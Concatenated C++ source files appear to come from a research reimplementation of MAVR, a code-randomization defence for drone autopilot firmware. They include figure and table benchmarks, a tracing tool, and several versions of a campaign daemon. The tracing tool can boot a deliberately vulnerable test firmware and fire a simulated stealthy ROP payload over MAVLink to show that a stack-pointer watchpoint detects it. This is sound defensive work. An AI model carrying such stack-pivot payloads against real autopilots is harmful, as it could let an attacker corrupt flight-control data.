              "nothing in practice and keeps the flash headroom free.\n");

  // Live check: padded randomization preserves behaviour end to end.
  bench::heading("Live check — padded image flies identically");
  firmware::AppProfile profile = firmware::testapp(false);
  profile.reserve_padding_bytes = 4096;
  const firmware::Firmware fw =
      firmware::generate(profile, toolchain::ToolchainOptions::mavr());
  const toolchain::SymbolBlob blob =
      toolchain::SymbolBlob::from_image(fw.image);
  support::Rng rng(515);
  const RandomizeResult padded = randomize_image(fw.image.bytes, blob, rng);

  auto feeds_after = [](std::span<const std::uint8_t> image) {
    sim::Board board;
    board.flash_image(image);
    board.run_cycles(1'500'000);
    return board.feed_line().write_count();
  };
  const auto stock_feeds = feeds_after(fw.image.bytes);
  const auto padded_feeds = feeds_after(padded.image);
  std::printf("reserved slack: %u bytes across %zu gaps; stock feeds %llu "
              "vs padded-randomized feeds %llu -> %s\n",
              padding_slack(blob), movable_count(blob) + 1,
              static_cast<unsigned long long>(stock_feeds),
              static_cast<unsigned long long>(padded_feeds),
              stock_feeds == padded_feeds ? "identical" : "DIVERGED");
  return 0;
}
