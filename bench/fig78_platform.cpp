// Regenerates Figs. 7/8 (paper §V-A, §VI-A): the MAVR system topology as
// instantiated by the simulation, plus the §V-A4 cost analysis.
#include <cstdio>

#include "bench_util.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"

int main() {
  using namespace mavr;
  bench::heading("Fig. 7 — MAVR system diagram (as simulated)");
  std::printf(
      "  [host PC] --preprocess(symbols+HEX)--> [external flash M95M02, "
      "%u KiB]\n"
      "      [master processor ATmega1284P]\n"
      "        | reads container (random access, streaming patch)\n"
      "        | RESET line + serial bootloader @115200 baud\n"
      "        v\n"
      "  [application processor ATmega2560 @16 MHz, readout fuse set]\n"
      "        | feed line (watchdog) --> master\n"
      "        | UART telemetry <--> ground station (MAVLink)\n"
      "        | sensors: gyro/accel/baro   actuators: 4 servo channels\n",
      defense::ExternalFlash().capacity() / 1024);

  bench::heading("Fig. 8 — prototype bring-up check");
  {
    const firmware::Firmware& fw = bench::built(firmware::arduplane(false));
    defense::ExternalFlash flash;
    sim::Board board;
    defense::MasterConfig cfg;
    defense::MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(defense::preprocess_to_hex(fw.image));
    master.boot();
    board.run_cycles(1'000'000);
    std::printf("  external flash:    %u / %u bytes used\n", flash.used(),
                flash.capacity());
    std::printf("  master:            %u randomization(s), permutation of "
                "%zu blocks\n",
                master.randomizations(), master.symbol_count());
    std::printf("  application:       %s, %llu instructions retired, "
                "feed line %s\n",
                board.cpu().state() == avr::CpuState::Running ? "running"
                                                              : "down",
                static_cast<unsigned long long>(
                    board.cpu().instructions_retired()),
                board.feed_line().write_count() > 0 ? "active" : "quiet");
    std::printf("  readout fuse:      %s\n",
                board.readout_protected() ? "set (binary not extractable)"
                                          : "clear");
  }

  bench::heading("Cost analysis (paper §V-A4)");
  const double master_cost = 7.74, flash_cost = 3.94, apm_cost = 159.99;
  std::printf("  ATmega1284P master processor:  $%.2f\n", master_cost);
  std::printf("  M95M02-DR external flash:      $%.2f\n", flash_cost);
  std::printf("  added materials cost:          $%.2f\n",
              master_cost + flash_cost);
  std::printf("  APM 2.5 base price:            $%.2f\n", apm_cost);
  std::printf("  relative increase:             %.1f%% (paper: 7.3%%)\n",
              100.0 * (master_cost + flash_cost) / apm_cost);
  return 0;
}
