// Regenerates Table III (paper §VII-B2): code size of the stock toolchain
// build vs. the MAVR custom-toolchain build (--no-relax,
// -mno-call-prologues, unaligned function packing).
#include <cstdio>

#include "bench_util.hpp"

int main() {
  using namespace mavr;
  bench::heading("Table III — Change in code size");
  std::printf("%-14s %-18s %-18s %-10s %s\n", "Application",
              "Stock Code Size", "MAVR Code Size", "delta", "(paper)");

  struct PaperRow {
    std::uint32_t stock, mavr;
  };
  const PaperRow paper[] = {{221608, 221294}, {244532, 244292},
                            {177870, 177556}};
  int i = 0;
  for (const firmware::AppProfile& profile : bench::paper_profiles()) {
    const std::uint32_t mavr_size = bench::built(profile).image.size_bytes();
    const firmware::Firmware stock = firmware::generate(
        profile, toolchain::ToolchainOptions::stock());
    const std::uint32_t stock_size = stock.image.size_bytes();
    std::printf("%-14s %-18u %-18u %-+10d %u / %u (%+d)\n",
                profile.name.c_str(), stock_size, mavr_size,
                static_cast<int>(stock_size) - static_cast<int>(mavr_size),
                paper[i].stock, paper[i].mavr,
                static_cast<int>(paper[i].stock) -
                    static_cast<int>(paper[i].mavr));
    ++i;
  }
  std::printf("\nMAVR flags cost size (no relaxation, inline prologues) but "
              "the unaligned\nGCC 4.5.4-style packing more than compensates "
              "— a small net reduction,\nmatching the paper's counter-"
              "intuitive result.\n");
  return 0;
}
