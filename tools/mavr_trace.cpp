// mavr-trace — run a generated firmware on the simulated board under the
// observability layer and emit a per-function cycle profile, a JSONL (or
// CSV) execution trace, and watchpoint verdicts.
//
//   mavr-trace [--profile testapp|arduplane|arducopter|ardurover]
//              [--cycles N] [--events flow|default|all] [--capacity N]
//              [--trace-out FILE] [--csv-out FILE] [--top N]
//              [--watch-sp LO:HI[:inside]] [--attack-v2]
//
// --attack-v2 boots the vulnerable testapp, arms the forbidden-zone SP
// watch on the PARAM_SET packet buffer and launches the paper's stealthy
// V2 attack, demonstrating the exactly-once pivot detection.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>

#include "attack/attacks.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "trace/session.hpp"

namespace {

int usage() {
  std::fprintf(
      stderr,
      "usage: mavr-trace [--profile testapp|arduplane|arducopter|ardurover]\n"
      "                  [--cycles N] [--events flow|default|all]\n"
      "                  [--capacity N] [--trace-out FILE] [--csv-out FILE]\n"
      "                  [--top N] [--watch-sp LO:HI[:inside]] [--attack-v2]\n");
  return 2;
}

bool write_file(const std::string& path, const std::string& contents) {
  std::ofstream out(path, std::ios::binary);
  if (!out) return false;
  out << contents;
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;

  std::string profile_name = "testapp";
  std::string trace_out = "mavr-trace.jsonl";
  std::string csv_out;
  std::string events = "default";
  std::uint64_t cycles = 4'000'000;
  std::size_t capacity = std::size_t{1} << 16;
  std::size_t top = 20;
  bool attack_v2 = false;
  bool have_sp_watch = false;
  unsigned long sp_lo = 0, sp_hi = 0;
  bool sp_inside = false;

  for (int i = 1; i < argc; ++i) {
    const auto need_value = [&](const char* flag) -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s needs a value\n", flag);
        std::exit(2);
      }
      return argv[++i];
    };
    if (std::strcmp(argv[i], "--profile") == 0) {
      profile_name = need_value("--profile");
    } else if (std::strcmp(argv[i], "--cycles") == 0) {
      cycles = std::strtoull(need_value("--cycles"), nullptr, 0);
    } else if (std::strcmp(argv[i], "--events") == 0) {
      events = need_value("--events");
    } else if (std::strcmp(argv[i], "--capacity") == 0) {
      capacity = std::strtoull(need_value("--capacity"), nullptr, 0);
    } else if (std::strcmp(argv[i], "--trace-out") == 0) {
      trace_out = need_value("--trace-out");
    } else if (std::strcmp(argv[i], "--csv-out") == 0) {
      csv_out = need_value("--csv-out");
    } else if (std::strcmp(argv[i], "--top") == 0) {
      top = std::strtoull(need_value("--top"), nullptr, 0);
    } else if (std::strcmp(argv[i], "--watch-sp") == 0) {
      char mode[16] = {};
      const char* spec = need_value("--watch-sp");
      const int n = std::sscanf(spec, "%li:%li:%15s", &sp_lo, &sp_hi, mode);
      if (n < 2) {
        std::fprintf(stderr, "bad --watch-sp spec %s\n", spec);
        return 2;
      }
      sp_inside = (n == 3 && std::strcmp(mode, "inside") == 0);
      have_sp_watch = true;
    } else if (std::strcmp(argv[i], "--attack-v2") == 0) {
      attack_v2 = true;
    } else {
      return usage();
    }
  }
  if (capacity == 0) {
    std::fprintf(stderr, "--capacity must be greater than zero\n");
    return 2;
  }

  firmware::AppProfile profile;
  if (profile_name == "testapp") {
    profile = firmware::testapp(/*vulnerable=*/attack_v2);
  } else if (profile_name == "arduplane") {
    profile = firmware::arduplane();
  } else if (profile_name == "arducopter") {
    profile = firmware::arducopter();
  } else if (profile_name == "ardurover") {
    profile = firmware::ardurover();
  } else {
    std::fprintf(stderr, "unknown profile %s\n", profile_name.c_str());
    return 2;
  }

  const firmware::Firmware fw =
      firmware::generate(profile, toolchain::ToolchainOptions::mavr());
  std::printf("firmware %s: %u bytes, %zu functions\n",
              fw.profile.name.c_str(), fw.image.size_bytes(),
              fw.image.function_count());

  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.set_gyro(0, 120);
  board.run_cycles(300'000);  // boot without tracing: profile steady state

  trace::Session::Options opts;
  opts.trace_capacity = capacity;
  if (events == "all") {
    opts.trace_mask = trace::kAllEvents;
  } else if (events == "flow") {
    opts.trace_mask = trace::mask_of(trace::EventKind::Call) |
                      trace::mask_of(trace::EventKind::Ret) |
                      trace::mask_of(trace::EventKind::Irq) |
                      trace::mask_of(trace::EventKind::Fault) |
                      trace::mask_of(trace::EventKind::WatchHit);
  } else if (events != "default") {
    std::fprintf(stderr, "unknown --events %s\n", events.c_str());
    return 2;
  }

  trace::Session session(fw.image, opts);
  if (have_sp_watch) {
    session.watchpoints().watch_sp(
        static_cast<std::uint16_t>(sp_lo), static_cast<std::uint16_t>(sp_hi),
        sp_inside ? trace::SpWatchMode::Inside : trace::SpWatchMode::Outside,
        "cli");
  }

  int sp_watch_id = 0;
  attack::AttackPlan plan;
  if (attack_v2) {
    plan = attack::analyze(fw.image);
    // The stk_move pivot parks SP at buffer_addr-1 — the same value the
    // legitimate prologue uses — but only the gadget chain then *pops with
    // SP inside the packet buffer*. Forbid that zone.
    sp_watch_id = session.watchpoints().watch_sp(
        plan.frame.buffer_addr,
        static_cast<std::uint16_t>(plan.frame.buffer_addr +
                                   firmware::kVulnBufBytes / 2),
        trace::SpWatchMode::Inside, "sp-in-packet-buffer");
  }

  session.attach(board.cpu(), &board.telemetry());
  sim::GroundStation gcs(board);
  gcs.send_heartbeat();

  if (attack_v2) {
    const attack::Write3 write{plan.gyro_cal_addr, {0x11, 0x22, 0x33}};
    gcs.send_raw_param_set(plan.builder().v2_payload({write}));
  }
  board.run_cycles(cycles);
  gcs.poll();
  session.detach();

  std::printf("\nper-function cycle profile (top %zu):\n%s\n", top,
              session.profiler()->report(top).c_str());
  std::printf("run: %llu cycles, %llu events recorded (%llu dropped by the "
              "ring), %zu MAVLink packets on the line, %llu UART underruns\n",
              static_cast<unsigned long long>(board.cpu().cycles()),
              static_cast<unsigned long long>(
                  session.trace().total_recorded()),
              static_cast<unsigned long long>(session.trace().dropped()),
              session.packets().size(),
              static_cast<unsigned long long>(session.uart_underruns()));
  std::printf("sp watermark: [0x%04X, 0x%04X]\n",
              session.watchpoints().sp_min(), session.watchpoints().sp_max());

  for (const trace::WatchHit& hit : session.watchpoints().hits()) {
    std::printf("WATCH HIT %s(#%d): value 0x%04X at pc word 0x%05X, cycle "
                "%llu\n",
                hit.label.c_str(), hit.watch_id, hit.value, hit.pc_words,
                static_cast<unsigned long long>(hit.cycle));
  }
  if (attack_v2) {
    const std::uint64_t hits =
        session.watchpoints().hit_count(sp_watch_id);
    std::printf("V2 stealthy attack: board %s, SP watchpoint fired %llu "
                "time(s)\n",
                board.crashed() ? "CRASHED" : "still flying",
                static_cast<unsigned long long>(hits));
  }

  if (!trace_out.empty()) {
    if (!write_file(trace_out, session.trace().jsonl())) {
      std::fprintf(stderr, "cannot write %s\n", trace_out.c_str());
      return 1;
    }
    std::printf("wrote JSONL trace: %s\n", trace_out.c_str());
  }
  if (!csv_out.empty()) {
    if (!write_file(csv_out, session.trace().csv())) {
      std::fprintf(stderr, "cannot write %s\n", csv_out.c_str());
      return 1;
    }
    std::printf("wrote CSV trace: %s\n", csv_out.c_str());
  }
  return 0;
}
