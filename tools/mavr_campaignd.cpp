// mavr-campaignd — sharded, resumable campaign service (DESIGN.md §12).
//
//   mavr-campaignd --listen SOCKET [--workers N] [--checkpoint FILE]
//                  [--max-queue N] [--grain N]
//   mavr-campaignd --worker --connect SOCKET
//
// Daemon mode binds an AF_UNIX coordinator at SOCKET, forks N worker
// processes that connect back to it, and serves mavr-campaign --connect
// clients until SIGINT/SIGTERM. With --checkpoint every completed chunk
// is persisted, so killing the daemon mid-campaign loses nothing: restart
// it, resubmit the same config, and only the missing chunks run.
//
// Worker mode runs a single worker process against an existing
// coordinator — for spreading workers across terminals/cgroups, or
// adding capacity to a busy daemon.
//
// Campaign results are bit-identical to `mavr-campaign` run in-process,
// for any worker count and across kill/resume.
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include <sys/wait.h>
#include <unistd.h>

#include "campaignd/coordinator.hpp"
#include "campaignd/worker.hpp"
#include "support/error.hpp"
#include "support/parse.hpp"

namespace {

volatile std::sig_atomic_t g_stop = 0;

void on_signal(int) { g_stop = 1; }

int usage() {
  std::fprintf(
      stderr,
      "usage: mavr-campaignd --listen SOCKET [--workers N] "
      "[--checkpoint FILE]\n"
      "                      [--max-queue N] [--grain N]\n"
      "       mavr-campaignd --worker --connect SOCKET\n");
  return 2;
}

int bad_value(const char* flag, const char* value) {
  std::fprintf(stderr, "invalid value for %s: '%s'\n", flag, value);
  return usage();
}

/// Worker child body: generous reconnect budget (it may be forked before
/// the coordinator binds, and should ride out a coordinator restart).
int worker_main(const std::string& path) {
  try {
    mavr::campaignd::WorkerOptions options;
    options.connect_attempts = 100;
    options.backoff_ms = 20;
    const std::uint64_t chunks = mavr::campaignd::run_worker(path, options);
    std::fprintf(stderr, "worker %d: %llu chunks completed\n", getpid(),
                 static_cast<unsigned long long>(chunks));
    return 0;
  } catch (const mavr::support::Error& e) {
    std::fprintf(stderr, "worker %d: error: %s\n", getpid(), e.what());
    return 1;
  }
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  campaignd::CoordinatorConfig config;
  std::uint64_t workers = 4;
  bool worker_mode = false;
  std::string connect_path;

  for (int i = 1; i < argc; ++i) {
    const auto arg_value = [&](const char* name) -> const char* {
      if (std::strcmp(argv[i], name) != 0) return nullptr;
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (std::strcmp(argv[i], "--worker") == 0) {
      worker_mode = true;
    } else if (const char* v = arg_value("--listen")) {
      config.listen_path = v;
    } else if (const char* v = arg_value("--connect")) {
      connect_path = v;
    } else if (const char* v = arg_value("--checkpoint")) {
      config.checkpoint_path = v;
    } else if (const char* v = arg_value("--workers")) {
      const auto n = support::parse_u64_in(v, 0, 64);
      if (!n) return bad_value("--workers", v);
      workers = *n;
    } else if (const char* v = arg_value("--max-queue")) {
      const auto n = support::parse_u64_in(v, 1, 1024);
      if (!n) return bad_value("--max-queue", v);
      config.max_queue = static_cast<std::size_t>(*n);
    } else if (const char* v = arg_value("--grain")) {
      const auto n = support::parse_u64_in(v, 1, 1024);
      if (!n) return bad_value("--grain", v);
      config.assign_chunks = static_cast<std::uint32_t>(*n);
    } else {
      std::fprintf(stderr, "bad argument: %s\n", argv[i]);
      return usage();
    }
  }

  if (worker_mode) {
    if (connect_path.empty()) {
      std::fprintf(stderr, "--worker requires --connect SOCKET\n");
      return usage();
    }
    return worker_main(connect_path);
  }
  if (config.listen_path.empty()) return usage();

  // Fork the worker pool *before* the coordinator spins up its threads
  // (fork+threads don't mix). The children connect with retries, so they
  // tolerate being born before the socket exists.
  std::vector<pid_t> children;
  for (std::uint64_t i = 0; i < workers; ++i) {
    const pid_t pid = fork();
    if (pid < 0) {
      std::perror("fork");
      break;
    }
    if (pid == 0) _exit(worker_main(config.listen_path));
    children.push_back(pid);
  }

  int rc = 0;
  try {
    campaignd::Coordinator coordinator(config);
    coordinator.start();
    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);
    std::printf("mavr-campaignd: listening on %s (%zu workers%s%s)\n",
                config.listen_path.c_str(), children.size(),
                config.checkpoint_path.empty() ? "" : ", checkpoint ",
                config.checkpoint_path.c_str());
    while (!g_stop) usleep(200'000);
    std::printf("mavr-campaignd: shutting down\n");
    coordinator.stop();
  } catch (const support::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    rc = 1;
  }

  for (pid_t pid : children) kill(pid, SIGTERM);
  for (pid_t pid : children) waitpid(pid, nullptr, 0);
  return rc;
}
