// mavr-campaignd — sharded, resumable, supervised campaign service
// (DESIGN.md §12–§14).
//
//   mavr-campaignd --listen ENDPOINT [--workers N | --min-workers N
//                  --max-workers N] [--checkpoint FILE] [--max-queue N]
//                  [--grain N] [--auth-token-file FILE]
//                  [--net-fault-rate F --net-fault-seed N]
//   mavr-campaignd --worker --connect ENDPOINT [--auth-token-file FILE]
//
// ENDPOINT is `unix:/path` (single machine, filesystem-permission access
// control), `tcp:host:port` (multi-machine; port 0 picks an ephemeral
// port and prints it), or a bare path (AF_UNIX shorthand).
//
// Daemon mode binds a coordinator at ENDPOINT and runs a *supervised*
// worker pool: forked worker processes that connect back to it, each
// heartbeating its supervisor over an inherited socketpair. A crashed
// worker is respawned (exponential backoff, crash-loop quarantine), a
// wedged one is killed and replaced, and the pool scales between
// --min-workers and --max-workers with the coordinator's queue depth.
// With --checkpoint every completed chunk is persisted and fsync-batched,
// so killing the daemon mid-campaign loses nothing: restart it, resubmit
// the same config, and only the missing chunks run.
//
// SIGINT/SIGTERM shuts down gracefully: the coordinator stops admitting
// and assigning, in-flight assignments drain (bounded), workers stop
// cleanly, and the checkpoint store is fsynced before exit.
//
// Worker mode runs a single worker process against an existing
// coordinator — add capacity from other terminals, cgroups, or *other
// machines* over TCP. On TCP, set --auth-token-file on both sides: every
// connection must answer an HMAC challenge over the shared token before
// any chunk is assigned.
//
// --net-fault-rate arms deterministic fault injection (frame drops,
// corruption, delays, short writes, half-open hangs) on every accepted
// connection — the chaos knob; results stay bit-identical, only slower.
//
// Campaign results are bit-identical to `mavr-campaign` run in-process,
// for any worker count, any transport, across kill/resume, and under
// injected faults.
#include <atomic>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>

#include <sys/wait.h>
#include <unistd.h>

#include "campaignd/coordinator.hpp"
#include "campaignd/supervisor.hpp"
#include "campaignd/worker.hpp"
#include "support/error.hpp"
#include "support/parse.hpp"

namespace {

volatile std::sig_atomic_t g_stop = 0;

void on_signal(int) { g_stop = 1; }

/// Worker-process cooperative stop: raised by SIGTERM/SIGINT and by a
/// lost supervisor heartbeat; polled by run_worker between trials.
std::atomic<bool> g_worker_stop{false};

void on_worker_signal(int) { g_worker_stop.store(true); }

/// Heartbeat cadence on the supervisor control channel. The supervisor's
/// wedge timeout must dwarf this (default 5 s vs 500 ms).
constexpr int kHeartbeatIntervalMs = 500;

/// Bound on waiting for in-flight assignments at shutdown; past it the
/// coordinator cuts off (safe: chunks reclaim via checkpoint/resubmit).
constexpr int kDrainTimeoutMs = 5'000;

int usage() {
  std::fprintf(
      stderr,
      "usage: mavr-campaignd --listen ENDPOINT [--workers N]\n"
      "                      [--min-workers N] [--max-workers N]\n"
      "                      [--checkpoint FILE] [--max-queue N] "
      "[--grain N]\n"
      "                      [--auth-token-file FILE]\n"
      "                      [--net-fault-rate F] [--net-fault-seed N]\n"
      "       mavr-campaignd --worker --connect ENDPOINT "
      "[--auth-token-file FILE]\n"
      "ENDPOINT: unix:/path | tcp:host:port | /bare/path (AF_UNIX)\n");
  return 2;
}

int bad_value(const char* flag, const char* value) {
  std::fprintf(stderr, "invalid value for %s: '%s'\n", flag, value);
  return usage();
}

/// Reads the shared handshake token: the file's first line, sans trailing
/// newline/CR. false on unreadable file.
bool read_token_file(const std::string& path, std::string* token) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::getline(in, *token);
  while (!token->empty() &&
         (token->back() == '\r' || token->back() == '\n')) {
    token->pop_back();
  }
  return true;
}

/// Worker body shared by --worker mode and forked pool children:
/// SIGTERM-aware, generous reconnect budget (it may start before the
/// coordinator binds, and should ride out a coordinator restart).
/// `control`, when valid, is the inherited supervisor channel: a
/// heartbeat thread pings it, and losing the supervisor raises stop —
/// an orphaned worker must not outlive its daemon.
int worker_main(const std::string& endpoint, const std::string& token,
                mavr::support::Socket control) {
  std::signal(SIGTERM, on_worker_signal);
  std::signal(SIGINT, on_worker_signal);
  std::thread heartbeat;
  if (control.valid()) {
    heartbeat = std::thread([&control] {
      mavr::campaignd::heartbeat_client(control, kHeartbeatIntervalMs,
                                        g_worker_stop);
      g_worker_stop.store(true);  // supervisor gone (or stop): wind down
    });
  }
  int rc = 0;
  try {
    mavr::campaignd::WorkerOptions options;
    options.connect_attempts = 100;
    options.backoff_ms = 20;
    options.auth_token = token;
    options.stop = &g_worker_stop;
    options.backoff_seed = static_cast<std::uint64_t>(getpid());
    const std::uint64_t chunks = mavr::campaignd::run_worker(endpoint,
                                                             options);
    std::fprintf(stderr, "worker %d: %llu chunks completed\n", getpid(),
                 static_cast<unsigned long long>(chunks));
  } catch (const mavr::support::Error& e) {
    std::fprintf(stderr, "worker %d: error: %s\n", getpid(), e.what());
    rc = 1;
  }
  g_worker_stop.store(true);
  if (heartbeat.joinable()) heartbeat.join();
  return rc;
}

/// Supervisor handle over one forked worker process. alive() reaps, so
/// no zombies accumulate; the destructor is the last-resort reaper.
class ForkWorker : public mavr::campaignd::WorkerHandle {
 public:
  ForkWorker(pid_t pid, mavr::support::Socket control)
      : pid_(pid), control_(std::move(control)) {}
  ~ForkWorker() override {
    if (!reaped_) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
    }
  }

  bool alive() override {
    if (reaped_) return false;
    int status = 0;
    const pid_t rc = ::waitpid(pid_, &status, WNOHANG);
    if (rc == 0) return true;
    reaped_ = true;  // exited (rc == pid_) or vanished (rc < 0)
    return false;
  }
  void terminate() override {
    if (!reaped_) ::kill(pid_, SIGTERM);
  }
  void kill_now() override {
    if (!reaped_) ::kill(pid_, SIGKILL);
  }
  mavr::support::Socket* control() override { return &control_; }

 private:
  pid_t pid_;
  mavr::support::Socket control_;
  bool reaped_ = false;
};

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  campaignd::CoordinatorConfig config;
  campaignd::SupervisorConfig pool;
  pool.min_workers = 4;
  pool.max_workers = 4;
  bool worker_mode = false;
  bool sized_explicitly = false;
  std::string connect_endpoint;
  std::string token_file;

  for (int i = 1; i < argc; ++i) {
    const auto arg_value = [&](const char* name) -> const char* {
      if (std::strcmp(argv[i], name) != 0) return nullptr;
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (std::strcmp(argv[i], "--worker") == 0) {
      worker_mode = true;
    } else if (const char* v = arg_value("--listen")) {
      config.listen_endpoint = v;
    } else if (const char* v = arg_value("--connect")) {
      connect_endpoint = v;
    } else if (const char* v = arg_value("--checkpoint")) {
      config.checkpoint_path = v;
    } else if (const char* v = arg_value("--auth-token-file")) {
      token_file = v;
    } else if (const char* v = arg_value("--workers")) {
      // Fixed-size pool: min == max (supervision still restarts crashes).
      const auto n = support::parse_u64_in(v, 1, 64);
      if (!n) return bad_value("--workers", v);
      pool.min_workers = pool.max_workers = static_cast<std::size_t>(*n);
      sized_explicitly = true;
    } else if (const char* v = arg_value("--min-workers")) {
      const auto n = support::parse_u64_in(v, 1, 64);
      if (!n) return bad_value("--min-workers", v);
      pool.min_workers = static_cast<std::size_t>(*n);
      sized_explicitly = true;
    } else if (const char* v = arg_value("--max-workers")) {
      const auto n = support::parse_u64_in(v, 1, 64);
      if (!n) return bad_value("--max-workers", v);
      pool.max_workers = static_cast<std::size_t>(*n);
      sized_explicitly = true;
    } else if (const char* v = arg_value("--max-queue")) {
      const auto n = support::parse_u64_in(v, 1, 1024);
      if (!n) return bad_value("--max-queue", v);
      config.max_queue = static_cast<std::size_t>(*n);
    } else if (const char* v = arg_value("--grain")) {
      const auto n = support::parse_u64_in(v, 1, 1024);
      if (!n) return bad_value("--grain", v);
      config.assign_chunks = static_cast<std::uint32_t>(*n);
    } else if (const char* v = arg_value("--net-fault-rate")) {
      const auto f = support::parse_f64(v);
      if (!f || *f < 0.0 || *f > 1.0) return bad_value("--net-fault-rate", v);
      config.net_faults = support::NetFaultConfig::uniform(*f);
    } else if (const char* v = arg_value("--net-fault-seed")) {
      const auto n = support::parse_u64(v);
      if (!n) return bad_value("--net-fault-seed", v);
      config.net_fault_seed = *n;
    } else {
      std::fprintf(stderr, "bad argument: %s\n", argv[i]);
      return usage();
    }
  }
  if (pool.max_workers < pool.min_workers) {
    std::fprintf(stderr, "--max-workers must be >= --min-workers\n");
    return usage();
  }
  (void)sized_explicitly;

  std::string token;
  if (!token_file.empty() && !read_token_file(token_file, &token)) {
    std::fprintf(stderr, "cannot read --auth-token-file %s\n",
                 token_file.c_str());
    return 1;
  }
  config.auth_token = token;

  if (worker_mode) {
    if (connect_endpoint.empty()) {
      std::fprintf(stderr, "--worker requires --connect ENDPOINT\n");
      return usage();
    }
    return worker_main(connect_endpoint, token, support::Socket());
  }
  if (config.listen_endpoint.empty()) return usage();

  int rc = 0;
  try {
    campaignd::Coordinator coordinator(config);
    coordinator.start();
    // The pool forks workers after the endpoint is bound: over TCP with
    // port 0 the children must be told the *resolved* port. The accept
    // thread already exists at fork time; the children never touch the
    // parent's coordinator state (glibc's atfork handlers keep malloc
    // usable in the child), and they connect with retries.
    const std::string endpoint = coordinator.endpoint();
    const auto factory =
        [&endpoint, &token](std::uint64_t)
        -> std::unique_ptr<campaignd::WorkerHandle> {
      auto [parent_end, child_end] = support::Socket::make_pair();
      const pid_t pid = fork();
      if (pid < 0) {
        std::perror("fork");
        return nullptr;  // supervisor retries on its backoff ladder
      }
      if (pid == 0) {
        parent_end.close();
        _exit(worker_main(endpoint, token, std::move(child_end)));
      }
      return std::make_unique<ForkWorker>(pid, std::move(parent_end));
    };
    campaignd::Supervisor supervisor(
        pool, factory,
        [&coordinator] { return coordinator.queue_depth().pending_chunks; });
    supervisor.start();

    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);
    std::printf(
        "mavr-campaignd: listening on %s (workers %zu..%zu%s%s%s%s)\n",
        endpoint.c_str(), pool.min_workers, pool.max_workers,
        config.checkpoint_path.empty() ? "" : ", checkpoint ",
        config.checkpoint_path.c_str(), token.empty() ? "" : ", token auth",
        config.net_faults.any() ? ", CHAOS armed" : "");
    while (!g_stop) usleep(200'000);

    // Graceful shutdown: stop admitting/assigning, let in-flight
    // assignments land (bounded), stop the pool politely, fsync the
    // checkpoint store, then tear the coordinator down.
    std::printf("mavr-campaignd: draining\n");
    const bool drained = coordinator.drain(kDrainTimeoutMs);
    supervisor.stop();
    coordinator.stop();
    const auto counters = coordinator.counters();
    std::printf(
        "mavr-campaignd: shut down %s (%llu chunks assigned, "
        "%llu speculative, %llu reclaimed)\n",
        drained ? "clean" : "with assignments abandoned",
        static_cast<unsigned long long>(counters.chunks_assigned),
        static_cast<unsigned long long>(counters.speculative_assigns),
        static_cast<unsigned long long>(counters.chunks_reclaimed));
  } catch (const support::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    rc = 1;
  }
  return rc;
}
