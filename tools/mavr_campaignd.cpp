// mavr-campaignd — sharded, resumable campaign service (DESIGN.md §12–§13).
//
//   mavr-campaignd --listen ENDPOINT [--workers N] [--checkpoint FILE]
//                  [--max-queue N] [--grain N] [--auth-token-file FILE]
//   mavr-campaignd --worker --connect ENDPOINT [--auth-token-file FILE]
//
// ENDPOINT is `unix:/path` (single machine, filesystem-permission access
// control), `tcp:host:port` (multi-machine; port 0 picks an ephemeral
// port and prints it), or a bare path (AF_UNIX shorthand).
//
// Daemon mode binds a coordinator at ENDPOINT, forks N worker processes
// that connect back to it, and serves mavr-campaign --connect clients
// until SIGINT/SIGTERM. With --checkpoint every completed chunk is
// persisted, so killing the daemon mid-campaign loses nothing: restart
// it, resubmit the same config, and only the missing chunks run.
//
// Worker mode runs a single worker process against an existing
// coordinator — add capacity from other terminals, cgroups, or *other
// machines* over TCP. On TCP, set --auth-token-file on both sides: every
// connection must answer an HMAC challenge over the shared token before
// any chunk is assigned.
//
// Campaign results are bit-identical to `mavr-campaign` run in-process,
// for any worker count, any transport, and across kill/resume.
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include <sys/wait.h>
#include <unistd.h>

#include "campaignd/coordinator.hpp"
#include "campaignd/worker.hpp"
#include "support/error.hpp"
#include "support/parse.hpp"

namespace {

volatile std::sig_atomic_t g_stop = 0;

void on_signal(int) { g_stop = 1; }

int usage() {
  std::fprintf(
      stderr,
      "usage: mavr-campaignd --listen ENDPOINT [--workers N] "
      "[--checkpoint FILE]\n"
      "                      [--max-queue N] [--grain N] "
      "[--auth-token-file FILE]\n"
      "       mavr-campaignd --worker --connect ENDPOINT "
      "[--auth-token-file FILE]\n"
      "ENDPOINT: unix:/path | tcp:host:port | /bare/path (AF_UNIX)\n");
  return 2;
}

int bad_value(const char* flag, const char* value) {
  std::fprintf(stderr, "invalid value for %s: '%s'\n", flag, value);
  return usage();
}

/// Reads the shared handshake token: the file's first line, sans trailing
/// newline/CR. false on unreadable file.
bool read_token_file(const std::string& path, std::string* token) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::getline(in, *token);
  while (!token->empty() &&
         (token->back() == '\r' || token->back() == '\n')) {
    token->pop_back();
  }
  return true;
}

/// Worker child body: generous reconnect budget (it may be forked before
/// the coordinator binds, and should ride out a coordinator restart).
int worker_main(const std::string& endpoint, const std::string& token) {
  try {
